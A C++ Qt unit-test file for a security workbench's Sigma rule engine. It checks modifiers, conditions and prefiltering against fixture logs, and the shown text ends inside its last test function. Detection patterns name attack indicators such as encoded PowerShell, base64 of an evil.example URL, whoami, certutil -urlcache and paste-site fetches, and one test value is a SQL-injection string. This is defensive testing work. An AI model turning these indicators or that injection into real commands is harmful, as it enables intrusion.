// Sigma over the case: every modifier and condition form against a fixture case built by the
// importer from tests/fixtures/sigma (a Squid log, a BIND query log, Sysmon XML), with exact
// expected hits; the reasons of rules that cannot run; the public rules in ../shared/data/sigma.
//
// A hit is named by the row it matched: p<line> (proxy log), d<line> (DNS log), e<EventRecordID>.
#include "test_paths.h"

#include "sigma/sigma_runner.h"
#include "store/case_store.h"
#include "store/statement.h"
#include "tables/sigma_detail.h"

#include <QTemporaryDir>
#include <QtTest>

#include <algorithm>
#include <map>
#include <memory>

using namespace socwb;
using namespace socwb::sigma;
using namespace socwb::test;

class TestSigma : public QObject {
    Q_OBJECT
  private slots:
    void initTestCase();
    void hits_data();
    void hits();
    void unsupported_data();
    void unsupported();
    void base64OffsetsAreTheThreeShifts();
    void windashVariantsCoverEveryDash();
    void valuesAreBoundNeverSpliced();
    void bundledRulesFindTheirRequests();
    void hitsAreStoredWithTheirProvenance();
    void cliListsCompiledUnsupportedAndHits();
    void sharedPublicRules();
    void prefilterKeepsEveryHit();
    void processCreationReadsSecurity4688();

  private:
    QString labels(const QByteArray& yaml, QString* reason = nullptr);
    QString label(const QString& table, int64_t rowid);

    QTemporaryDir dir_;
    QString casePath_;
    std::unique_ptr<CaseStore> store_;
    SigmaMappings mappings_;
};

namespace {

QByteArray ruleYaml(const QByteArray& logsource, const QByteArray& detection) {
    QByteArray ls = logsource == "proxy"     ? "category: proxy"
                    : logsource == "dns"     ? "category: dns"
                    : logsource == "process" ? "category: process_creation\n  product: windows"
                    : logsource == "net"     ? "category: network_connection\n  product: windows"
                    : logsource == "dnsq"    ? "category: dns_query\n  product: windows"
                                             : logsource;
    return "title: test rule\nid: 00000000-0000-0000-0000-000000000001\nlevel: high\nlogsource:\n  " + ls +
           "\ndetection:\n" + detection + "\n";
}

// The value with every other letter's case swapped ("CmD.ExE").
QString mixedCase(const QString& v) {
    QString out = v;
    for (qsizetype i = 0; i < out.size(); i += 2) {
        out[i] = out[i].isUpper() ? out[i].toLower() : out[i].toUpper();
    }
    return out;
}

// A YAML single-quoted scalar of v (Sigma's * ? \ escaped: the rule means the text itself).
QByteArray quoted(const QString& v) {
    QString s = v;
    s.replace(QLatin1Char('\\'), QStringLiteral("\\\\"))
        .replace(QLatin1Char('*'), QStringLiteral("\\*"))
        .replace(QLatin1Char('?'), QStringLiteral("\\?"))
        .replace(QLatin1Char('\''), QStringLiteral("''"));
    return "'" + s.toUtf8() + "'";
}

} // namespace

void TestSigma::initTestCase() {
    QVERIFY(dir_.isValid());
    casePath_ = dir_.filePath(QStringLiteral("sigma.socwb"));
    store_ = CaseStore::open(casePath_);
    for (const char* f : {"sigma/access.log", "sigma/sysmon.xml"}) {
        const ImportResult r = importInto(*store_, fixture(QString::fromLatin1(f)));
        QVERIFY2(r.status == QLatin1String("imported") && r.rejected == 0, qPrintable(r.message));
    }
    const ImportResult dns = importInto(*store_, fixture(QStringLiteral("sigma/query.log")));
    QVERIFY2(dns.status == QLatin1String("imported") && dns.accepted == 3, qPrintable(dns.message));
    mappings_ = loadMappings();
}

QString TestSigma::label(const QString& table, int64_t rowid) {
    const bool sysmon = table == QLatin1String("sysmon_events");
    Statement st(store_->db(), sysmon ? "SELECT event_record_id FROM sysmon_events WHERE id = ?"
                                      : "SELECT line_no FROM " + table.toStdString() + " WHERE id = ?");
    st.bind(1, rowid);
    if (!st.step()) {
        return QStringLiteral("?");
    }
    const QString prefix = sysmon                                 ? QStringLiteral("e")
                           : table == QLatin1String("proxy_rows") ? QStringLiteral("p")
                                                                  : QStringLiteral("d");
    return prefix + QString::number(st.int64(0));
}

QString TestSigma::labels(const QByteArray& yaml, QString* reason) {
    const QList<SigmaRule> rules = loadRuleText(yaml, QStringLiteral("test.yml"));
    const SigmaRun run = runRules(store_->db(), rules, mappings_);
    if (reason) {
        *reason = run.compiled.first().reason;
    }
    QStringList out;
    for (int64_t rid : run.hits.first()) {
        out << label(run.tables.first(), rid);
    }
    std::sort(out.begin(), out.end());
    return out.join(QLatin1Char(' '));
}

void TestSigma::hits_data() {
    QTest::addColumn<QByteArray>("logsource");
    QTest::addColumn<QByteArray>("detection");
    QTest::addColumn<QString>("expected");

    // Plain values: equal, case-insensitive; lists are any of.
    QTest::newRow("equals, any case") << QByteArray("process")
                                      << QByteArray(
                                             "  sel:\n    Image: 'c:\\windows\\system32\\CMD.exe'\n  condition: sel")
                                      << "e101";
    QTest::newRow("list is or") << QByteArray("process")
                                << QByteArray("  sel:\n    ProcessId:\n      - 4100\n      - 7800\n  condition: sel")
                                << "e101 e120";
    QTest::newRow("map is and") << QByteArray("process")
                                << QByteArray(
                                       "  sel:\n    Image|endswith: '\\powershell.exe'\n    CommandLine|contains: "
                                       "'enc'\n  condition: sel")
                                << "e102 e103 e104 e105 e116";
    QTest::newRow("list of maps is or")
        << QByteArray("process")
        << QByteArray(
               "  sel:\n    - Image|endswith: '\\cmd.exe'\n    - CommandLine|startswith: 'svchost'\n  condition: sel")
        << "e101 e106 e119";
    // contains / startswith / endswith / all.
    QTest::newRow("contains") << QByteArray("proxy")
                              << QByteArray("  sel:\n    c-uri|contains: '/RAW/'\n  condition: sel") << "p1";
    QTest::newRow("startswith") << QByteArray("proxy")
                                << QByteArray("  sel:\n    c-uri|startswith: 'https://paste'\n  condition: sel")
                                << "p1 p3";
    QTest::newRow("endswith") << QByteArray("proxy")
                              << QByteArray("  sel:\n    c-uri|endswith: '/pwndrop'\n  condition: sel") << "p6";
    QTest::newRow("all")
        << QByteArray("process")
        << QByteArray("  sel:\n    CommandLine|contains|all:\n      - 'powershell'\n      - '-enc'\n  condition: sel")
        << "e102 e105 e116";
    // Wildcards and their escapes.
    QTest::newRow("star is a wildcard") << QByteArray("process")
                                        << QByteArray("  sel:\n    Image|endswith: '\\a*b.exe'\n  condition: sel")
                                        << "e107 e108";
    QTest::newRow("escaped star is literal")
        << QByteArray("process") << QByteArray("  sel:\n    Image|endswith: '\\a\\*b.exe'\n  condition: sel") << "e107";
    QTest::newRow("question mark is one character")
        << QByteArray("process") << QByteArray("  sel:\n    Image|endswith: '\\what?.exe'\n  condition: sel")
        << "e109 e110";
    QTest::newRow("escaped question mark is literal")
        << QByteArray("process") << QByteArray("  sel:\n    Image|endswith: '\\what\\?.exe'\n  condition: sel")
        << "e109";
    QTest::newRow("double backslash is one, then a wildcard")
        << QByteArray("process") << QByteArray("  sel:\n    Image: 'C:\\\\Temp\\\\*'\n  condition: sel")
        << "e107 e108 e109 e110 e111 e112";
    QTest::newRow("SQL wildcards are literal")
        << QByteArray("process") << QByteArray("  sel:\n    Image|contains: '100%_done'\n  condition: sel") << "e111";
    // cased, re and its flags.
    QTest::newRow("uncased by default") << QByteArray("process")
                                        << QByteArray("  sel:\n    Image|endswith: '\\CMD.EXE'\n  condition: sel")
                                        << "e101 e106";
    QTest::newRow("cased") << QByteArray("process")
                           << QByteArray("  sel:\n    Image|endswith|cased: '\\CMD.EXE'\n  condition: sel") << "e106";
    QTest::newRow("cased with a literal star")
        << QByteArray("process") << QByteArray("  sel:\n    Image|cased|endswith: 'a\\*b.exe'\n  condition: sel")
        << "e107";
    QTest::newRow("re is case-sensitive")
        << QByteArray("process")
        << QByteArray("  sel:\n    CommandLine|re: 'invoke-webrequest\\s+-uri'\n  condition: sel") << "";
    QTest::newRow("re i") << QByteArray("process")
                          << QByteArray("  sel:\n    CommandLine|re|i: 'invoke-webrequest\\s+-uri'\n  condition: sel")
                          << "e117";
    QTest::newRow("re without m") << QByteArray("process")
                                  << QByteArray("  sel:\n    CommandLine|re: '^second'\n  condition: sel") << "";
    QTest::newRow("re m") << QByteArray("process")
                          << QByteArray("  sel:\n    CommandLine|re|m: '^second'\n  condition: sel") << "e118";
    QTest::newRow("re without s") << QByteArray("process")
                                  << QByteArray("  sel:\n    CommandLine|re: 'line1.second'\n  condition: sel") << "";
    QTest::newRow("re s") << QByteArray("process")
                          << QByteArray("  sel:\n    CommandLine|re|s: 'line1.second'\n  condition: sel") << "e118";
    // Encodings.
    QTest::newRow("windash") << QByteArray("process")
                             << QByteArray("  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel")
                             << "e102 e103 e104 e116";
    QTest::newRow("without windash") << QByteArray("process")
                                     << QByteArray("  sel:\n    CommandLine|contains: ' -enc '\n  condition: sel")
                                     << "e102 e116";
    QTest::newRow("base64")
        << QByteArray("process")
        << QByteArray("  sel:\n    CommandLine|base64|contains: 'http://evil.example/run'\n  condition: sel") << "e113";
    QTest::newRow("base64offset")
        << QByteArray("process")
        << QByteArray("  sel:\n    CommandLine|base64offset|contains: 'http://evil.example/run'\n  condition: sel")
        << "e113 e114 e115";
    QTest::newRow("wide base64") << QByteArray("process")
                                 << QByteArray(
                                        "  sel:\n    CommandLine|wide|base64|contains: 'whoami /all'\n  condition: sel")
                                 << "e116";
    QTest::newRow("utf16le base64offset")
        << QByteArray("process")
        << QByteArray("  sel:\n    CommandLine|utf16le|base64offset|contains: 'whoami'\n  condition: sel") << "e116";
    QTest::newRow("base64 is not wide")
        << QByteArray("process")
        << QByteArray("  sel:\n    CommandLine|base64|contains: 'whoami /all'\n  condition: sel") << "";
    // Network addresses, existence, numbers, other fields, hashes.
    QTest::newRow("cidr v4")
        << QByteArray("net")
        << QByteArray(
               "  sel:\n    DestinationIp|cidr:\n      - '10.0.0.0/8'\n      - '192.168.0.0/16'\n  condition: sel")
        << "e201 e202";
    QTest::newRow("cidr v6") << QByteArray("net")
                             << QByteArray("  sel:\n    DestinationIp|cidr: '2001:db8::/32'\n  condition: sel")
                             << "e204";
    QTest::newRow("cidr host") << QByteArray("net")
                               << QByteArray("  sel:\n    DestinationIp|cidr: '8.8.8.8/32'\n  condition: sel")
                               << "e203";
    QTest::newRow("proxy client cidr") << QByteArray("proxy")
                                       << QByteArray("  sel:\n    c-ip|cidr: '10.9.0.0/16'\n  condition: sel") << "p5";
    QTest::newRow("exists false") << QByteArray("process")
                                  << QByteArray("  sel:\n    ParentUser|exists: false\n  condition: sel") << "e120";
    QTest::newRow("exists true") << QByteArray("process")
                                 << QByteArray("  sel:\n    ParentUser|exists: true\n    Image|endswith: '.exe'\n    "
                                               "ProcessId|lt: 4200\n  condition: sel")
                                 << "e101";
    QTest::newRow("null") << QByteArray("process") << QByteArray("  sel:\n    ParentUser: null\n  condition: sel")
                          << "e120";
    QTest::newRow("gt") << QByteArray("process") << QByteArray("  sel:\n    ProcessId|gt: 7600\n  condition: sel")
                        << "e119 e120";
    QTest::newRow("gte") << QByteArray("process") << QByteArray("  sel:\n    ProcessId|gte: 7600\n  condition: sel")
                         << "e118 e119 e120";
    QTest::newRow("lt") << QByteArray("process") << QByteArray("  sel:\n    ProcessId|lt: 6100\n  condition: sel")
                        << "e101 e102";
    QTest::newRow("lte") << QByteArray("process") << QByteArray("  sel:\n    ProcessId|lte: 6100\n  condition: sel")
                         << "e101 e102 e103";
    QTest::newRow("fieldref") << QByteArray("process")
                              << QByteArray("  sel:\n    Image|fieldref: ParentImage\n  condition: sel") << "e119";
    QTest::newRow("fieldref endswith")
        << QByteArray("process")
        << QByteArray(
               "  sel:\n    Image|fieldref|endswith: OriginalFileName\n    Image|contains: 'Temp'\n  condition: sel")
        << "e107 e108 e109 e110 e111 e112";
    QTest::newRow("hash field") << QByteArray("process")
                                << QByteArray("  sel:\n    Imphash: 'deadbeef00'\n  condition: sel") << "e120";
    QTest::newRow("proxy method") << QByteArray("proxy")
                                  << QByteArray("  sel:\n    cs-method: 'post'\n  condition: sel") << "p5";
    QTest::newRow("proxy host") << QByteArray("proxy")
                                << QByteArray("  sel:\n    cs-host|endswith: '.example.org'\n  condition: sel") << "p2";
    QTest::newRow("dns query") << QByteArray("dns")
                               << QByteArray("  sel:\n    query|endswith: '.example'\n  condition: sel") << "d2";
    QTest::newRow("dns record type") << QByteArray("dns")
                                     << QByteArray("  sel:\n    record_type: 'txt'\n  condition: sel") << "d2";
    QTest::newRow("dns_query") << QByteArray("dnsq")
                               << QByteArray(
                                      "  sel:\n    QueryName|endswith: '.githubusercontent.com'\n  condition: sel")
                               << "e302";
    QTest::newRow("network hostname") << QByteArray("net")
                                      << QByteArray(
                                             "  sel:\n    DestinationHostname|contains: 'internal'\n  condition: sel")
                                      << "e202";
    // Keywords: a list without a field searches the log source's keyword fields.
    QTest::newRow("keywords") << QByteArray("process")
                              << QByteArray("  words:\n    - 'WHOAMI'\n    - 'netsvcs'\n  condition: words")
                              << "e101 e119";
    QTest::newRow("keyword all")
        << QByteArray("process")
        << QByteArray("  words:\n    '|all':\n      - 'powershell'\n      - 'SQBFAFgA'\n  condition: words")
        << "e102 e103 e104";
    QTest::newRow("proxy keyword") << QByteArray("proxy")
                                   << QByteArray("  words:\n    - 'payload.bin'\n  condition: words") << "p2";
    // Conditions.
    const QByteArray three =
        "  sel_ps:\n    Image|endswith: '\\powershell.exe'\n  sel_enc:\n    CommandLine|contains: 'enc'\n"
        "  filter:\n    CommandLine|contains: 'SQBFAFgA'\n";
    QTest::newRow("and not") << QByteArray("process") << three + "  condition: sel_ps and sel_enc and not filter"
                             << "e105 e116";
    QTest::newRow("parentheses") << QByteArray("process") << three + "  condition: (sel_enc or filter) and not sel_ps"
                                 << "";
    QTest::newRow("or binds looser than and")
        << QByteArray("process") << three + "  condition: filter or sel_ps and sel_enc and not filter"
        << "e102 e103 e104 e105 e116";
    QTest::newRow("1 of pattern") << QByteArray("process") << three + "  condition: 1 of sel_* and not filter"
                                  << "e105 e113 e114 e115 e116 e117 e118";
    QTest::newRow("all of pattern") << QByteArray("process") << three + "  condition: all of sel_*"
                                    << "e102 e103 e104 e105 e116";
    QTest::newRow("1 of them") << QByteArray("process") << three + "  condition: 1 of them"
                               << "e102 e103 e104 e105 e113 e114 e115 e116 e117 e118";
    QTest::newRow("all of them") << QByteArray("process") << three + "  condition: all of them"
                                 << "e102 e103 e104";
    QTest::newRow("not of a missing field is true")
        << QByteArray("process")
        << QByteArray("  sel:\n    Image|endswith: '.exe'\n  filter:\n    ParentUser: 'CORP\\bob'\n  condition: sel "
                      "and not filter")
        << "e120";
    QTest::newRow("conditions list")
        << QByteArray("proxy")
        << QByteArray("  a:\n    cs-method: POST\n  b:\n    c-uri|contains: paste.ee\n  condition:\n    - a\n    - b")
        << "p3 p5";
}

void TestSigma::hits() {
    QFETCH(QByteArray, logsource);
    QFETCH(QByteArray, detection);
    QFETCH(QString, expected);
    QString reason;
    const QString got = labels(ruleYaml(logsource, detection), &reason);
    QVERIFY2(reason.isEmpty(), qPrintable(reason));
    QCOMPARE(got, expected);
}

void TestSigma::unsupported_data() {
    QTest::addColumn<QByteArray>("yaml");
    QTest::addColumn<QString>("reason");
    QTest::newRow("absent field") << ruleYaml("proxy", "  sel:\n    cs-cookie|contains: 'x'\n  condition: sel")
                                  << "field cs-cookie not stored for category proxy";
    QTest::newRow("absent windows field") << ruleYaml("net", "  sel:\n    CommandLine|contains: 'x'\n  condition: sel")
                                          << "field CommandLine not stored for category network_connection";
    QTest::newRow("utf16be") << ruleYaml("process",
                                         "  sel:\n    CommandLine|utf16be|base64offset|contains: 'x'\n  condition: sel")
                             << "modifier utf16be not supported";
    QTest::newRow("unknown modifier") << ruleYaml("process", "  sel:\n    CommandLine|expand: '%x%'\n  condition: sel")
                                      << "modifier expand not supported";
    QTest::newRow("wide alone") << ruleYaml("process", "  sel:\n    CommandLine|wide|contains: 'x'\n  condition: sel")
                                << "modifier wide without base64 after it not supported";
    QTest::newRow("aggregation") << ruleYaml("proxy",
                                             "  sel:\n    cs-method: GET\n  condition: sel | count() by c-ip > 10")
                                 << "aggregation in the condition (sel | count() by c-ip > 10) not supported";
    QTest::newRow("category") << ruleYaml("category: file_event\n  product: windows",
                                          "  sel:\n    TargetFilename: x\n  condition: sel")
                              << "logsource category file_event not stored in the case";
    QTest::newRow("product") << ruleYaml("category: process_creation\n  product: linux",
                                         "  sel:\n    Image: x\n  condition: sel")
                             << "logsource category process_creation product linux not stored in the case";
    QTest::newRow("undefined name") << ruleYaml("proxy", "  sel:\n    cs-method: GET\n  condition: sel and other")
                                    << "condition names other, which the detection does not define";
    QTest::newRow("pattern names nothing") << ruleYaml("proxy", "  sel:\n    cs-method: GET\n  condition: 1 of x*")
                                           << "condition: '1 of x*' names no detection";
    QTest::newRow("bad regex") << ruleYaml("process", "  sel:\n    CommandLine|re: 'a('\n  condition: sel")
                               << "regular expression 'a(' is not valid: missing closing parenthesis";
    QTest::newRow("bad cidr") << ruleYaml("net", "  sel:\n    DestinationIp|cidr: '10.0.0.0/33'\n  condition: sel")
                              << "'10.0.0.0/33' is not a CIDR network";
    QTest::newRow("gt not a number") << ruleYaml("process", "  sel:\n    ProcessId|gt: 'many'\n  condition: sel")
                                     << "modifier gt needs a number, not 'many'";
    QTest::newRow("base64 of a wildcard")
        << ruleYaml("process", "  sel:\n    CommandLine|base64|contains: 'a*b'\n  condition: sel")
        << "modifier base64 over a value with wildcards not supported";
    QTest::newRow("timeframe") << ruleYaml("proxy", "  sel:\n    cs-method: GET\n  timeframe: 5m\n  condition: sel")
                               << "timeframe (a correlation) not supported";
    QTest::newRow("not yaml") << QByteArray("title: [unclosed\n") << "not valid YAML";
    QTest::newRow("collection") << QByteArray("action: global\ntitle: x\n")
                                << "rule collections (action: global) not supported";
}

void TestSigma::unsupported() {
    QFETCH(QByteArray, yaml);
    QFETCH(QString, reason);
    const QList<SigmaRule> rules = loadRuleText(yaml, QStringLiteral("test.yml"));
    QCOMPARE(rules.size(), 1);
    const CompiledRule c = compileRule(rules.first(), mappings_);
    QVERIFY(!c.ok());
    QVERIFY2(c.reason.startsWith(reason), qPrintable(c.reason));
    QVERIFY(c.where.isEmpty());
}

// Sigma's documented example: "/bin/sh" gives L2Jpbi9za, 9iaW4vc2 and vYmluL3No.
void TestSigma::base64OffsetsAreTheThreeShifts() {
    QCOMPARE(base64Offsets("/bin/sh"),
             (QStringList{QStringLiteral("L2Jpbi9za"), QStringLiteral("9iaW4vc2"), QStringLiteral("vYmluL3No")}));
}

void TestSigma::windashVariantsCoverEveryDash() {
    const QStringList v = windashVariants(QStringLiteral("-a x-y /b"));
    QCOMPARE(v.size(), 25); // two option dashes, five forms each; the dash inside x-y stays
    QVERIFY(v.contains(QStringLiteral("/a x-y -b")));
    QVERIFY(v.contains(QString::fromUtf8("\u2013a x-y \u2015b")));
    QVERIFY(!v.contains(QStringLiteral("-a x/y /b")));
}

// A value that is SQL in disguise is matched as text: it finds nothing and breaks nothing.
void TestSigma::valuesAreBoundNeverSpliced() {
    const QByteArray yaml = ruleYaml("proxy", "  sel:\n    c-uri|contains: \"x') OR 1=1 --\"\n  condition: sel");
    const CompiledRule c = compileRule(loadRuleText(yaml, QStringLiteral("t.yml")).first(), mappings_);
    QVERIFY(c.ok());
    QVERIFY(!c.where.contains(QLatin1String("1=1")));
    QCOMPARE(c.params.size(), 1);
    QCOMPARE(labels(yaml), QString());
}

void TestSigma::bundledRulesFindTheirRequests() {
    const QList<SigmaRule> rules = loadBundledRules();
    QCOMPARE(rules.size(), 2);
    const SigmaRun run = runRules(store_->db(), rules, mappings_);
    QCOMPARE(run.compiledCount(), 2);
    std::map<QString, QStringList> byTitle;
    for (qsizetype i = 0; i < rules.size(); ++i) {
        QCOMPARE(rules[i].author, QStringLiteral("socwb"));
        QVERIFY(rules[i].tags.contains(QStringLiteral("attack.t1102.003")));
        for (int64_t rid : run.hits[i]) {
            byTitle[rules[i].level] << label(run.tables[i], rid);
        }
    }
    QCOMPARE(byTitle[QStringLiteral("high")], (QStringList{QStringLiteral("p1"), QStringLiteral("p3")}));
    QCOMPARE(byTitle[QStringLiteral("critical")], QStringList{QStringLiteral("p2")});
}

void TestSigma::hitsAreStoredWithTheirProvenance() {
    const QList<SigmaRule> rules = loadBundledRules();
    const SigmaRun run = runRules(store_->db(), rules, mappings_);
    QCOMPARE(storeHits(store_->db(), rules, run), int64_t(3));
    // Again: a rule's hits are replaced, not added to.
    QCOMPARE(storeHits(store_->db(), rules, run), int64_t(3));
    QCOMPARE(queryInt(store_->db(), "SELECT count(*) FROM sigma_hits").value_or(-1), int64_t(3));
    Statement st(store_->db(), "SELECT h.level, h.tags, e.path, p.line_no, h.ts_us = p.ts_us FROM sigma_hits h "
                               "JOIN proxy_rows p ON h.row_table = 'proxy_rows' AND p.id = h.row_id "
                               "JOIN evidence e ON e.id = p.evidence_id WHERE h.level = 'critical'");
    QVERIFY(st.step());
    QVERIFY(QString::fromStdString(st.text(1)).contains(QLatin1String("attack.t1102.003")));
    QVERIFY(QString::fromStdString(st.text(2)).endsWith(QLatin1String("sigma/access.log")));
    QCOMPARE(st.int64(3), int64_t(2));
    QCOMPARE(st.int64(4), int64_t(1));
    QVERIFY(!st.step());
}

void TestSigma::cliListsCompiledUnsupportedAndHits() {
    const QString rules = dir_.filePath(QStringLiteral("rules"));
    QVERIFY(QDir().mkpath(rules + QStringLiteral("/sub")));
    QFile a(rules + QStringLiteral("/sub/post.yml"));
    QVERIFY(a.open(QIODevice::WriteOnly));
    a.write(ruleYaml("proxy", "  sel:\n    cs-method: POST\n  condition: sel"));
    a.close();
    QFile b(rules + QStringLiteral("/cookie.yml"));
    QVERIFY(b.open(QIODevice::WriteOnly));
    b.write(ruleYaml("proxy", "  sel:\n    cs-cookie: x\n  condition: sel").replace("0001", "0002"));
    b.close();
    store_.reset(); // the CLI writes the case
    const CliRun run = runCli({QStringLiteral("sigma"), casePath_, rules, QStringLiteral("--json")});
    store_ = CaseStore::open(casePath_);
    QVERIFY2(run.exitCode == 0, run.err.constData());
    const QJsonObject doc = QJsonDocument::fromJson(run.out).object();
    QCOMPARE(doc.value(QStringLiteral("compiled")).toInt(), 1);
    QCOMPARE(doc.value(QStringLiteral("unsupported")).toInt(), 1);
    QCOMPARE(doc.value(QStringLiteral("hits")).toInt(), 1);
    const QJsonArray list = doc.value(QStringLiteral("rules")).toArray();
    QCOMPARE(list.size(), 2);
    QCOMPARE(list.at(0).toObject().value(QStringLiteral("reason")).toString(),
             QStringLiteral("field cs-cookie not stored for category proxy"));
    QCOMPARE(list.at(1).toObject().value(QStringLiteral("hits")).toInt(), 1);
    QCOMPARE(list.at(1).toObject().value(QStringLiteral("table")).toString(), QStringLiteral("proxy_rows"));

    store_.reset();
    const CliRun text = runCli({QStringLiteral("sigma"), casePath_});
    store_ = CaseStore::open(casePath_);
    QVERIFY2(text.exitCode == 0, text.err.constData());
    QVERIFY2(text.out.contains("2 hit(s)  high      Raw content fetched from a paste site"), text.out.constData());
    QCOMPARE(runCli({QStringLiteral("sigma"), dir_.filePath(QStringLiteral("none.socwb"))}).exitCode, 3);
    QCOMPARE(runCli({QStringLiteral("sigma"), casePath_, dir_.filePath(QStringLiteral("nothing.yml"))}).exitCode, 2);
}

// The public rules: how many compile, why the others do not, and that every compiled one runs.
void TestSigma::sharedPublicRules() {
    const QString folder = sharedData(QStringLiteral("sigma/rules"));
    if (!haveSharedData() || !QFileInfo(folder).isDir()) {
        QSKIP("../shared/data/sigma is absent: the public rules not measured");
    }
    const QList<SigmaRule> rules = loadRules({folder});
    QCOMPARE(rules.size(), 1292);
    const SigmaRun run = runRules(store_->db(), rules, mappings_);
    std::map<QString, int> reasons;
    for (const CompiledRule& c : run.compiled) {
        if (!c.ok()) {
            ++reasons[c.reason];
        }
    }
    const int compiled = run.compiledCount();
    qInfo("%d of %lld public rules compile (%.1f %%)", compiled, static_cast<long long>(rules.size()),
          100.0 * compiled / static_cast<double>(rules.size()));
    for (const auto& [reason, n] : reasons) {
        qInfo("  %4d  %s", n, qPrintable(reason));
    }
    QVERIFY2(compiled >= 1283, "the measured floor: 1283 of 1292 (99.3 %)");
    QVERIFY(run.passes >= 4); // proxy, process_creation, network_connection, dns_query, dns
}

// The prefilter (a rule's SQL checked only on rows holding one of its literals) finds exactly the
// hits of every rule on every row, and of each rule on its own: over rules written from the
// fixture's own values (pieces of them in mixed case, with every modifier that has literals,
// negations, wildcards, keywords), the bundled rules and the public ones when present.
void TestSigma::prefilterKeepsEveryHit() {
    QList<SigmaRule> rules = loadBundledRules();
    if (haveSharedData() && QFileInfo(sharedData(QStringLiteral("sigma/rules"))).isDir()) {
        rules << loadRules({sharedData(QStringLiteral("sigma/rules"))});
    }
    const qsizetype given = rules.size();
    struct Source {
        QByteArray logsource, field, sql;
    };
    const QList<Source> sources{
        {"process", "Image", "SELECT json_extract(fields, '$.Image') FROM sysmon_events WHERE event_id = 1"},
        {"process", "CommandLine",
         "SELECT json_extract(fields, '$.CommandLine') FROM sysmon_events WHERE event_id = 1"},
        {"net", "DestinationHostname",
         "SELECT json_extract(fields, '$.DestinationHostname') FROM sysmon_events WHERE event_id = 3"},
        {"dnsq", "QueryName", "SELECT json_extract(fields, '$.QueryName') FROM sysmon_events WHERE event_id = 22"},
        {"proxy", "c-uri", "SELECT url FROM proxy_events"},
        {"proxy", "c-useragent", "SELECT user_agent FROM proxy_events"},
        {"dns", "query", "SELECT d.name FROM dns_events e JOIN domains d ON d.id = e.domain_id"}};
    int n = 0;
    for (const Source& src : sources) {
        Statement st(store_->db(), src.sql.toStdString());
        while (st.step()) {
            const QString v = QString::fromStdString(st.text(0));
            if (v.size() < 6) {
                continue;
            }
            const QByteArray f = src.field;
            const QByteArray head = quoted(mixedCase(v.left(4))), tail = quoted(mixedCase(v.right(5)));
            const QByteArray mid = quoted(mixedCase(v.mid(v.size() / 3, 4)));
            const QByteArray whole = quoted(mixedCase(v));
            const QList<QByteArray> detections{
                "  sel:\n    " + f + ": " + whole + "\n  condition: sel",
                "  sel:\n    " + f + "|startswith: " + head + "\n  condition: sel",
                "  sel:\n    " + f + "|endswith:\n      - " + tail + "\n      - 'zz-none'\n  condition: sel",
                "  sel:\n    " + f + "|contains|all:\n      - " + head + "\n      - " + mid + "\n  condition: sel",
                "  sel:\n    " + f + "|contains: " + mid + "\n  other:\n    " + f + "|endswith: " + tail +
                    "\n  condition: sel and not other",
                "  sel:\n    " + f + "|contains: " + mid + "\n  condition: not sel",
                "  sel:\n    " + f + ": '*" + quoted(v.mid(2, 3)).mid(1).chopped(1) + "?*'\n  condition: sel",
                "  sel:\n    " + f + "|cased|contains: " + mid + "\n  condition: sel",
                "  keywords:\n    - " + mid + "\n  condition: keywords",
                "  a:\n    " + f + "|startswith: " + head + "\n  b:\n    " + f + "|contains: 'zz-none'\n" +
                    "  condition: 1 of a or b"};
            for (const QByteArray& d : detections) {
                rules << loadRuleText(ruleYaml(src.logsource, d), QStringLiteral("gen%1.yml").arg(n++));
            }
        }
    }
    QVERIFY(rules.size() - given >= 200);
    const SigmaRun fast = runRules(store_->db(), rules, mappings_);
    const SigmaRun every = runRules(store_->db(), rules, mappings_, nullptr, false);
    int withHits = 0, compiled = 0;
    for (qsizetype i = 0; i < rules.size(); ++i) {
        QCOMPARE(fast.compiled[i].reason, every.compiled[i].reason);
        if (!fast.compiled[i].ok()) {
            QVERIFY2(i < given, qPrintable(fast.compiled[i].reason));
            continue;
        }
        ++compiled;
        QCOMPARE(fast.hits[i], every.hits[i]);
        QCOMPARE(fast.hits[i], hitsOneByOne(store_->db(), fast.compiled[i]));
        withHits += fast.hits[i].isEmpty() ? 0 : 1;
    }
    // The generated rules match (the first few of each value at least), and the prefilter did
    // skip rows: fewer rules were checked than ran.
    QVERIFY2(withHits >= (rules.size() - given) / 2, qPrintable(QString::number(withHits)));
    QVERIFY(fast.checks > 0);
    QVERIFY(fast.checks < compiled);
}

QTEST_GUILESS_MAIN(TestSigma)
#include "tst_sigma.moc"

// process_creation rules run on the Security log's 4688 events too, each field read by its 4688
// name (Image: NewProcessName, ParentImage: ParentProcessName); a field 4688 does not have
// (OriginalFileName) matches only Sysmon's events. The hits are the same with the prefilter and
// without it, and the detail names the event for what it is.
void TestSigma::processCreationReadsSecurity4688() {
    QTemporaryDir dir;
    auto store = CaseStore::open(dir.filePath(QStringLiteral("security.socwb")));
    for (const char* f : {"sigma/sysmon.xml", "sigma/security.xml"}) {
        const ImportResult r = importInto(*store, fixture(QString::fromLatin1(f)));
        QVERIFY2(r.status == QLatin1String("imported") && r.rejected == 0, qPrintable(r.message));
    }
    QCOMPARE(queryInt(store->db(), "SELECT count(*) FROM sysmon_events WHERE event_id = 4688").value_or(-1),
             int64_t(2));
    const QList<std::pair<QByteArray, QString>> cases{
        {"  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'\n  condition: sel",
         "e401"},
        {"  sel:\n    Image: 'C:\\Windows\\System32\\cmd.exe'\n  condition: sel", "e101 e402"},
        {"  sel:\n    OriginalFileName: 'cmd.exe'\n  condition: sel", "e101 e106"},
        {"  sel:\n    ParentImage|endswith: '\\winword.exe'\n  condition: sel", "e401"},
        {"  sel:\n    ParentImage|endswith: '\\explorer.exe'\n    Image|contains: 'cmd'\n  condition: sel",
         "e101 e106 e402"},
        {"  keywords:\n    - 'paste.ee/r/'\n  condition: keywords", "e401"},
    };
    for (const auto& [detection, expected] : cases) {
        const QList<SigmaRule> rules = loadRuleText(ruleYaml("process", detection), QStringLiteral("t.yml"));
        for (const bool prefilter : {true, false}) {
            const SigmaRun run = runRules(store->db(), rules, mappings_, nullptr, prefilter);
            QVERIFY2(run.compiled.first().ok(), qPrintable(run.compiled.first().reason));
            QStringList got;
            for (int64_t rid : run.hits.first()) {
                got << QStringLiteral("e%1").arg(queryInt(store->db(), "SELECT event_record_id FROM sysmon_events "
                                                                       "WHERE id = " +
                                                                           std::to_string(rid))
                                                     .value_or(-1));
            }
            std::sort(got.begin(), got.end());
            QCOMPARE(got.join(QLatin1Char(' ')), expected);
        }
    }
    // Stored, the 4688 hit's detail says what the event is and shows its command line.
